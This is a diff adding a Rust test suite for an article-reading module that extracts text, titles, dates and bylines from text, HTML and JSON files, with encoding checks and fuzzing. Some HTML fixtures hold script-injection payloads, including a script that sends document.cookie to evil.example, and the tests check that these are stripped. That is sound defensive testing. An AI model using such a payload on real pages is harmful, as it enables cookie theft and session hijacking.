@@ -1,0 +1,323 @@
+use super::*;
+
+fn one(file: &str, bytes: &[u8]) -> Document {
+    let mut docs = read_files(file, bytes).unwrap_or_else(|e| panic!("{file}: {e}"));
+    assert_eq!(docs.len(), 1, "{file}");
+    docs.remove(0)
+}
+
+fn err(file: &str, bytes: &[u8]) -> String {
+    read_files(file, bytes).unwrap_err().to_string()
+}
+
+fn utf16le(s: &str) -> Vec<u8> {
+    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
+}
+
+#[test]
+fn reads_text_and_title() {
+    let d = read_file("a.txt", " date 2025-05-13 Türkiye gears up\n\nANKARA\n\nBody.".as_bytes()).unwrap();
+    assert_eq!(d.title, "Türkiye gears up");
+    assert!(d.warnings.is_empty());
+    assert_eq!(d.published, None);
+    let d = read_file("b.md", b"Intro\n# The heading\ntext").unwrap();
+    assert_eq!(d.title, "The heading");
+}
+
+#[test]
+fn refuses_binaries_by_their_signature_or_name() {
+    let cases: &[(&str, &[u8], &str)] = &[
+        ("report.pdf", b"%PDF-1.7 ...", "file report.pdf: not a text article (looks like PDF)"),
+        (
+            "x.docx",
+            b"PK\x03\x04....",
+            "file x.docx: not a text article (looks like a ZIP archive or Office document)",
+        ),
+        (
+            "a.zip",
+            b"PK\x03\x04\x14\x00",
+            "file a.zip: not a text article (looks like a ZIP archive or Office document)",
+        ),
+        ("p.png", b"\x89PNG\r\n\x1a\n\x00\x00", "file p.png: not a text article (looks like a PNG image)"),
+        ("scan.txt", b"%PDF-1.4\n%\xE2\xE3", "file scan.txt: not a text article (looks like PDF)"),
+        (
+            "blob.bin",
+            b"abc\x00\x01\x02\x03def\x00\x00\xff\xfe\x00x",
+            "file blob.bin: not a text article (looks like binary data)",
+        ),
+        ("notes.doc", b"plain words", "file notes.doc: not a text article (looks like a Word document)"),
+        (
+            "ctl.txt",
+            b"\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x10\x11 a b c",
+            "file ctl.txt: not a text article (looks like binary data)",
+        ),
+    ];
+    for (file, bytes, message) in cases {
+        assert_eq!(err(file, bytes), *message);
+    }
+}
+
+#[test]
+fn empty_files_are_refused() {
+    assert_eq!(err("empty.txt", b"  \n "), "file empty.txt: no text in this file");
+    assert_eq!(err("none.txt", b""), "file none.txt: no text in this file");
+    assert_eq!(err("page.html", b"<html><body></body></html>"), "file page.html: no text in this file");
+}
+
+#[test]
+fn files_over_the_limit_are_refused_with_their_size() {
+    let big = vec![b'a'; MAX_FILE_BYTES + 1];
+    assert_eq!(err("big.txt", &big), "file big.txt: too large (20 MB; the limit is 20 MB)");
+    let big = vec![b'a'; 52_400_000];
+    assert_eq!(err("huge.txt", &big), "file huge.txt: too large (52.4 MB; the limit is 20 MB)");
+}
+
+#[test]
+fn encodings() {
+    // Windows-1252, detected.
+    let d = one("w.txt", b"Caf\xE9 talks in K\xF6ln: \x93peace\x94 \x96 the minister said.");
+    assert_eq!(d.text, "Café talks in Köln: “peace” – the minister said.");
+    assert!(d.warnings.iter().any(|w| w.contains("windows-1252")), "{:?}", d.warnings);
+    // UTF-8 with a byte-order mark: the mark is not text.
+    let d = one("bom.txt", "\u{FEFF}Erdoğan met Putin.".as_bytes());
+    assert_eq!(d.text, "Erdoğan met Putin.");
+    assert!(d.warnings.is_empty());
+    // UTF-16LE with and without its mark, UTF-16BE with its mark.
+    let text = "Erdoğan met Putin in Sochi.\nThey talked.";
+    let mut with_bom = b"\xFF\xFE".to_vec();
+    with_bom.extend(utf16le(text));
+    assert_eq!(one("le.txt", &with_bom).text, text);
+    let d = one("le-nobom.txt", &utf16le(text));
+    assert_eq!(d.text, text);
+    let mut be = b"\xFE\xFF".to_vec();
+    be.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
+    assert_eq!(one("be.txt", &be).text, text);
+    // Invalid UTF-8 amid valid UTF-8: replaced, with a warning naming the encoding.
+    let d = one(
+        "mixed.txt",
+        "Erdoğan said \u{201C}yes\u{201D} "
+            .as_bytes()
+            .iter()
+            .chain(b"\xFF ok.")
+            .copied()
+            .collect::<Vec<u8>>()
+            .as_slice(),
+    );
+    assert_eq!(d.text, "Erdoğan said “yes” \u{FFFD} ok.");
+    assert_eq!(d.warnings, ["bytes invalid in UTF-8 (mostly valid) were replaced with \u{FFFD}"]);
+}
+
+#[test]
+fn html_meta_charset_is_followed() {
+    let page = b"<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-1\">\
+<title>Caf\xE9</title></head><body><article><p>Le caf\xE9 de la gare a rouvert ses portes lundi matin, \
+apr\xE8s des mois de travaux, a annonc\xE9 la mairie dans un communiqu\xE9.</p></article></body></html>";
+    let d = one("cafe.html", page);
+    assert!(d.text.contains("Le café de la gare"), "{}", d.text);
+    assert!(d.text.contains("après des mois"));
+    let page = b"<html><head><meta charset='windows-1251'></head><body><p>\xcf\xf3\xf2\xe8\xed \xe7\xe0\xff\xe2\xe8\xeb.</p></body></html>";
+    assert!(one("ru.html", page).text.contains("Путин заявил."));
+}
+
+const PAGE: &str = r#"<!DOCTYPE html>
+<html lang="en"><head>
+<meta charset="utf-8">
+<title>Erdogan and Putin talk peace | The Daily News</title>
+<meta name="author" content="Jane Reporter">
+<meta property="og:url" content="https://daily.example/world/erdogan-putin">
+<link rel="canonical" href="https://daily.example/world/erdogan-putin">
+<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle",
+ "headline":"Erdogan and Putin talk peace","datePublished":"2025-11-24T18:05:00+03:00",
+ "author":{"@type":"Person","name":"Jane Reporter"}}</script>
+<script>var tracker = "SCRIPT-CONTENT-MUST-NOT-APPEAR"; document.write(tracker);</script>
+<style>.x { content: "STYLE-CONTENT" }</style>
+</head><body>
+<header><nav><ul><li><a href="/">Home</a></li><li><a href="/world">World</a></li><li><a href="/sport">Sport</a></li></ul></nav></header>
+<div class="ad-banner">Advertisement: buy now</div>
+<main><article>
+<h1>Erdogan and Putin talk peace</h1>
+<p class="byline">By Jane Reporter</p>
+<p>Turkish President Recep Tayyip Erdogan and Russian leader Vladimir Putin confirmed on Monday their
+readiness to expand bilateral dialogue and to work directly in negotiations to reach a peace agreement.</p>
+<img src="x.jpg" onerror="alert('ONERROR-PAYLOAD')">
+<figure><img src="a.jpg"><figcaption>Photo by Murat Cetinmuhurdar/Anadolu via Getty Images</figcaption></figure>
+<p>According to the Kremlin statement, Putin and Erdogan discussed expanding trade and energy relations,
+but devoted a large part of the conversation to the situation in Ukraine.</p>
+<script>alert("INLINE-SCRIPT")</script>
+<p>Erdogan stressed that Ankara will continue its efforts to end the war with a just and lasting
+peace, and that Türkiye is ready to host direct talks between Moscow and Kyiv in Istanbul.</p>
+</article></main>
+<aside><h3>Read also</h3><ul><li><a href="/a">Trump announced progress with Xi</a></li><li><a href="/b">Europe's counter-proposal</a></li></ul></aside>
+<footer><p>© 2025 The Daily News. All rights reserved.</p><a href="/privacy">Privacy</a></footer>
+</body></html>"#;
+
+#[test]
+fn html_main_text_and_metadata() {
+    let d = one("talk.html", PAGE.as_bytes());
+    assert!(d.text.starts_with("Turkish President Recep Tayyip Erdogan"), "{}", d.text);
+    assert!(d.text.contains("just and lasting peace"));
+    for gone in [
+        "SCRIPT-CONTENT",
+        "STYLE-CONTENT",
+        "ONERROR",
+        "INLINE-SCRIPT",
+        "alert",
+        "Home",
+        "Sport",
+        "Trump announced",
+        "All rights reserved",
+        "Getty Images",
+        "<p>",
+    ] {
+        assert!(!d.text.contains(gone), "{gone:?} in {:?}", d.text);
+    }
+    assert_eq!(d.title, "Erdogan and Putin talk peace");
+    assert_eq!(d.byline.as_deref(), Some("Jane Reporter"));
+    assert_eq!(d.url.as_deref(), Some("https://daily.example/world/erdogan-putin"));
+    let p = d.published.unwrap();
+    assert_eq!(p.date.to_string(), "2025-11-24");
+    assert!(p.reason.contains("JSON-LD datePublished"), "{}", p.reason);
+    assert!(!p.by_user);
+}
+
+#[test]
+fn html_is_sniffed_from_content_and_scripts_never_leak() {
+    let d = one("saved.txt", PAGE.as_bytes());
+    assert!(d.text.starts_with("Turkish President"), "{}", d.text);
+    let payload = b"<html><body><p>Short note about talks.</p><img src=x onerror=alert(1)>\
+<script>fetch('https://evil.example/?c='+document.cookie)</script><noscript>NOSCRIPT</noscript>\
+<svg><script>SVG-SCRIPT</script></svg></body></html>";
+    let d = one("x.htm", payload);
+    assert!(d.text.contains("Short note about talks."), "{}", d.text);
+    for gone in ["evil", "cookie", "alert", "SVG-SCRIPT", "onerror"] {
+        assert!(!d.text.contains(gone), "{gone:?} in {:?}", d.text);
+    }
+}
+
+#[test]
+fn plain_text_boilerplate_is_removed_when_the_text_is_built() {
+    let text = include_str!("../../../seeds/004_80507271b0520eef.txt");
+    let d = one("004.txt", text.as_bytes());
+    assert_eq!(
+        d.title,
+        "Türkiye intensifies its contacts with Russia regarding the peace agreement in Ukraine"
+    );
+    for gone in ["GettyImages-1243932531.jpg", "Anadolu Agency/Getty Images 2 of 3", "(Photo by", "Read also"]
+    {
+        assert!(!d.text.contains(gone), "{gone}");
+    }
+    assert!(d.text.contains("Erdogan wants to resume the Istanbul process"));
+    let d = one("s.md", b"# Talks\n\nLeaders met.\n\nShare this article\nFollow us on X\n\nThey agreed.\n");
+    assert_eq!(d.text, "# Talks\n\nLeaders met.\n\nThey agreed.\n");
+}
+
+#[test]
+fn json_array_object_and_lines() {
+    let array = br#"[
+      {"title": "First", "text": "Leaders met in Ankara on Monday.", "date": "2025-11-24", "url": "https://ex.com/1", "author": ["A. One", "B. Two"]},
+      {"headline": "Second", "body": "<p>Talks went on.</p><script>alert(1)</script>", "published_at": "2025-11-25T10:00:00Z"},
+      {"id": 3}
+    ]"#;
+    let docs = read_files("feed.json", array).unwrap();
+    assert_eq!(docs.len(), 2);
+    assert_eq!(docs[0].file, "feed.json#1");
+    assert_eq!(docs[0].title, "First");
+    assert_eq!(docs[0].text, "Leaders met in Ankara on Monday.");
+    assert_eq!(docs[0].url.as_deref(), Some("https://ex.com/1"));
+    assert_eq!(docs[0].byline.as_deref(), Some("A. One, B. Two"));
+    let p = docs[0].published.as_ref().unwrap();
+    assert_eq!((p.date.to_string().as_str(), p.by_user), ("2025-11-24", false));
+    assert!(p.reason.contains("\"date\""), "{}", p.reason);
+    assert!(docs[0].warnings.iter().any(|w| w.contains("1 item(s) without text")), "{:?}", docs[0].warnings);
+    assert_eq!(docs[1].file, "feed.json#2");
+    assert_eq!(docs[1].text, "Talks went on.");
+    assert_eq!(docs[1].published.as_ref().unwrap().date.to_string(), "2025-11-25");
+
+    let d = one("one.json", br#"{"headline": "Only", "content": {"rendered": "<p>A &amp; B met.</p>"}}"#);
+    assert_eq!((d.file.as_str(), d.title.as_str(), d.text.as_str()), ("one.json", "Only", "A & B met."));
+
+    let wrapped = br#"{"status": "ok", "articles": [{"title": "W", "description": "Short item."}]}"#;
+    assert_eq!(one("w.json", wrapped).text, "Short item.");
+
+    let lines = b"{\"title\":\"L1\",\"text\":\"One.\"}\n\n{\"title\":\"L2\",\"article\":\"Two.\"}\n";
+    let docs = read_files("news.jsonl", lines).unwrap();
+    assert_eq!(docs.iter().map(|d| d.text.as_str()).collect::<Vec<_>>(), ["One.", "Two."]);
+    // JSON Lines with no extension known as JSON, sniffed.
+    assert_eq!(read_files("news.ndjson", lines).unwrap().len(), 2);
+    assert_eq!(read_files("dump", lines).unwrap().len(), 2);
+
+    assert!(err("bad.json", b"{\"text\": ").starts_with("file bad.json: not readable as JSON: "));
+    assert_eq!(
+        err("nums.json", b"[1, 2, 3]"),
+        "file nums.json: not readable as JSON: no article found: expected objects with a text, body, content, article field"
+    );
+}
+
+#[test]
+fn our_export_is_restored_with_the_users_dates() {
+    let export = br#"{"schema": 1,
+      "articles": [
+        {"id": "a1", "file": "call.txt", "title": "The call", "published": "2025-11-24",
+         "published_reason": "set by the user", "published_source": "user", "published_inferred": false,
+         "warnings": [], "text": "Erdogan spoke with Putin on Monday."},
+        {"id": "a2", "file": "2025-11-20-other.txt", "title": "Other", "published": "2025-11-20",
+         "published_reason": "in the file name", "published_source": "file_name", "published_inferred": false,
+         "warnings": ["w"], "text": "Leaders met.\n\nShare this article"}
+      ],
+      "events": [{"id": "e1"}]}"#;
+    let docs = read_files("dateline.json", export).unwrap();
+    assert_eq!(docs.len(), 2);
+    assert_eq!((docs[0].file.as_str(), docs[0].title.as_str()), ("call.txt", "The call"));
+    let p = docs[0].published.as_ref().unwrap();
+    assert_eq!((p.date.to_string().as_str(), p.by_user), ("2025-11-24", true));
+    assert_eq!(docs[1].published, None, "a date from the file name is found again");
+    assert_eq!(docs[1].text, "Leaders met.\n\nShare this article", "restored as it was analysed");
+    assert_eq!(docs[1].warnings, ["w"]);
+}
+
+#[test]
+fn read_file_keeps_the_first_of_several() {
+    let d = read_file("f.json", br#"[{"text":"One."},{"text":"Two."}]"#).unwrap();
+    assert_eq!(d.text, "One.");
+    assert!(d.warnings.iter().any(|w| w.contains("1 more")));
+}
+
+#[test]
+fn unknown_extensions_are_read_as_text_with_a_warning() {
+    let d = one("notes.log", b"Leaders met on Monday.");
+    assert_eq!(d.text, "Leaders met on Monday.");
+    assert_eq!(d.warnings, [".log is not a known article format: read as plain text"]);
+}
+
+mod property {
+    use super::*;
+    use proptest::prelude::*;
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(256))]
+
+        #[test]
+        fn read_files_never_panics(
+            file in "\\PC{0,24}",
+            ext in prop::sample::select(vec!["", ".txt", ".md", ".html", ".htm", ".json", ".jsonl", ".pdf", ".bin"]),
+            bytes in prop::collection::vec(any::<u8>(), 0..2048),
+        ) {
+            let name = format!("{file}{ext}");
+            if let Ok(docs) = read_files(&name, &bytes) {
+                prop_assert!(!docs.is_empty());
+                for d in docs {
+                    prop_assert!(!d.text.trim().is_empty());
+                }
+            }
+        }
+
+        #[test]
+        fn structured_inputs_never_panic(
+            prefix in prop::sample::select(vec!["<html><body><p>", "[{\"text\":\"", "{\"articles\":[{\"body\":\"", "\u{FEFF}", "<meta charset=\"", "\u{FF}\u{FE}"]),
+            body in "\\PC{0,200}",
+            ext in prop::sample::select(vec![".txt", ".html", ".json"]),
+        ) {
+            let _ = read_files(&format!("x{ext}"), format!("{prefix}{body}").as_bytes());
+        }
+    }
+}
